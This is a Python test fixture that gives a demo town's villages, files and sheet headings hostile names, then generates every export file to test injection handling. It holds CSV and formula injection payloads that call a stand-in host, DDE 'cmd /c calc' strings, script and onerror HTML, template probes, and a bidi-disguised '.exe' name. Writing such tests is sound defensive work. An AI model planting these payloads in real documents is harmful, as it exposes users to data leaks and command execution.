"""A town whose villages, files, sheets and headings bear hostile names, and every kind of file that the program hands out of it.

The names stand in a published build, past all that a load cleans.
"""

import datetime as dt
import io
import shutil
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import NamedTuple

import duckdb
import pytest

from checks import __main__ as checks_command
from checks import returned_copies
from etl.forms import blank_forms, filled_form
from locales import use_language
from pages.assessment_pack import assemble
from pages.chart_files import chart_export
from pages.data.queries import Figures, Reader
from pages.downloads import table_files
from pages.figure_review import declared_sheet
from pages.ledger_intake import report_board
from pages.site_sampling import checklist_xlsx, sample
from pages.text import receipt_text
from pages.word_report import report, report_data, slides
from tests.warehouse.disclosure.exporting import planned
from warehouse import row_access
from warehouse.builds import repository
from warehouse.disclosure import release_log
from warehouse.disclosure.release import Release
from warehouse.review.declared_figures import Entry
from warehouse.storage import csv_injection, keys

DAY, BUILD, HOST = dt.date(2025, 12, 31), "20260302T000000Z-0000000c", "http://evil.example"
FILE, SHEET, HEADING = "=1+1\u202e\x1b]0;x\x07<b>_x0041_.xlsx", "-1+1|'!A1</t>]]>", '@x"\t;=2+2'


def village_names(host: str) -> list[str]:
    """A name for each village, which would have whoever runs it ask a host."""
    return [
        f'=WEBSERVICE("{host}/?"&1)',
        "+cmd|'/c calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        f'\t=WEBSERVICE("{host}/")',
        f'\r\n=WEBSERVICE("{host}/")',
        "　=1+1丙",
        f'<img src="{host}/" onerror="x">&amp;<script>x</script>]]>',
        "{{7*7}}${7*7}#{7*7}",
        "_x003D_1+1_x202E_",
        "丁\x07\x1b[31m\x0b戊\u202egpj.exe\u2066\ufffe",
        f'己;=WEBSERVICE("{host}/")\t=2+2,"=3+3\n=4+4',
        f"[x]({host}/a)![y]({host}/b) $x^2$",
        f'{host}/{{ INCLUDEPICTURE "{host}/" }}{{ DDEAUTO cmd "/c calc" }}' + "长" * 400,
    ]


class Town(NamedTuple):
    """The town, its figures as the centre reads them, all tables as they leave in the internal edition."""

    home: Path
    names: list[str]
    figures: Figures
    release: Release
    receipt: release_log.Receipt


@contextmanager
def renamed(demo_home: Path, home: Path, host: str = HOST) -> Iterator[Town]:
    """The demo town under such names in a home of its own, which is in force meanwhile."""
    build, names = repository.open_build(demo_home), village_names(host)
    (home / "builds").mkdir()
    shutil.copytree(demo_home / "keys", home / "keys")
    path = home / "builds" / f"{BUILD}.duckdb"
    shutil.copy(build.path, path)
    codes = [row["village_id"] for row in build.rows("select village_id from villages order by sort_no")]
    with duckdb.connect(str(path)) as connection:
        for code, name in zip(codes, names, strict=True):
            connection.execute("update villages set name = ? where village_id = ?", [name, code])
        connection.execute("update ledger_sheets set file = ? || file, sheet = ?", [FILE, SHEET])
        connection.execute("update ledger_files set file = ? || file", [FILE])
        connection.execute(
            "update findings set file = ? || file, sheet = ?, heading = ?, value_masked = ?", [FILE, SHEET, HEADING, names[0]]
        )
    (home / "builds" / "published").write_text(path.stem)
    receipt = release_log.Receipt(
        "20260104-0001-0A1B", "2026-01-04T08:15:00+00:00", BUILD, "1", str(DAY), "x", "li", "centre", {"范围": names[0]}
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TONGXING_HOME", str(home))
        figures = Figures(BUILD, Reader(row_access.WHOLE, 0), DAY)
        release = Release(planned(figures.unsuppressed, report.TABLES, DAY, home).tables)
        yield Town(home, names, figures, release, receipt)


def _tables(form: str, town: Town) -> bytes:
    return table_files.write(form, town.release, town.receipt, {"coverage_share": 0.95})


def _report(write: Callable[..., bytes], at: int | None, language: str, town: Town) -> bytes:
    use_language(language)
    villages = tuple(town.figures.villages())
    place = () if at is None else (villages[at]["village_id"], villages[at]["name"])
    return write(town.release, town.receipt, report_data.Choices(DAY, *place, town=town.names[5], signed=town.names[10], villages=villages))


def _chart(kind: str, form: str, town: Town) -> bytes:
    chosen = chart_export.Chosen(kind, "" if kind == "steps" else "coverage_share", 1.0, tuple(town.figures.villages()))
    wanted = chart_export.tables(kind, chosen.share)
    tables = [table for table in town.release.tables if (table.metric, table.by) in wanted]
    return chart_export.write(form, Release(tables), chosen, BUILD, town.receipt)


def _checklist(town: Town) -> bytes:
    codes = tuple(row["village_id"] for row in town.figures.villages())
    checklist = sample.draw(town.figures, sample.SampleRequest(BUILD, DAY, "in_scope", codes, 60, "2025-1"))
    stamp = receipt_text.stamp("internal", str(DAY), BUILD, town.receipt)
    return checklist_xlsx.checklist_xlsx(checklist, sample.block(checklist), stamp)


def _pack(edition: str, town: Town) -> bytes:
    order = release_log.Order(BUILD, DAY, "pack_zip", "li", "reviewer", {"范围": town.names[6]}, edition)
    return assemble.make(town.figures, order, "2025-1", lambda *_entry: 1, lambda _step: None)[0]


def _copies(town: Town) -> bytes:
    """Those of one village, and of none other."""
    build = repository.open_build(town.home)
    code = build.rows("select village_id from villages order by sort_no")[12]["village_id"]
    return returned_copies.pack(build, keys.load_key(town.home), code)[0]


def _blank_ledgers(_town: Town) -> bytes:
    stream = io.BytesIO()
    with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(stream, "w") as packed:
        for path in blank_forms.write_templates(Path(folder)):
            packed.write(path, path.name)
    return stream.getvalue()


def _filled(town: Town) -> bytes:
    build = repository.open_build(town.home)
    code = build.rows("select village_id from villages order by sort_no")[12]["village_id"]
    return filled_form.filled(build, keys.load_key(town.home), code, DAY)[0]


def _reminder(town: Town) -> bytes:
    period = report_board.period(DAY, {"report_period": "month", "report_grace_days": 10})
    lacking = {str(at): [*report_board.LEDGERS] for at in range(14)}
    return report_board.notice(lacking, dict(zip(lacking, town.names, strict=False)), period, DAY, town.names[10])


FILES: dict[str, Callable[[Town], bytes]] = {
    **{f"tables.{form}": partial(_tables, form) for form in table_files.FORMS},
    "report.docx": partial(_report, report.write, None, "zh_CN"),
    "report_of_a_village.docx": partial(_report, report.write, 13, "en"),
    "slides.pptx": partial(_report, slides.write, None, "en"),
    "slides_of_a_village.pptx": partial(_report, slides.write, 13, "zh_CN"),
    **{f"chart_{kind}.{form}": partial(_chart, kind, form) for kind in chart_export.KINDS for form in chart_export.FORMS},
    "checklist.xlsx": _checklist,
    "pack.zip": partial(_pack, release_log.INTERNAL),
    "public_pack.zip": partial(_pack, release_log.PUBLIC),
    "copies.zip": _copies,
    "findings.csv": lambda town: csv_injection.as_csv(checks_command.rows(repository.open_build(town.home)), checks_command.COLUMNS),
    "list.csv": lambda town: csv_injection.as_csv([{town.names[0]: name} for name in town.names]),
    "declared.xlsx": lambda _town: declared_sheet.blank([Entry("coverage_share", "", 0, str(DAY))]),
    "blank.zip": _blank_ledgers,
    "filled.xlsx": _filled,
    "reminder.docx": _reminder,
}
# The villages whose names each file says; none where it says no village's, or, as a PNG, draws it.
SAYS: dict[str, tuple[int, ...]] = {"report_of_a_village.docx": (13,), "slides_of_a_village.pptx": (13,)}
SAYS |= dict.fromkeys(
    ("tables.csv", "tables.xlsx", "report.docx", "slides.pptx", "checklist.xlsx", "list.csv", "reminder.docx"), (*range(14),)
)
SAYS |= dict.fromkeys(("chart_village.svg", "chart_map.svg", "chart_months.svg", "pack.zip", "public_pack.zip"), (*range(14),))
SAYS |= {"filled.xlsx": (12,)}
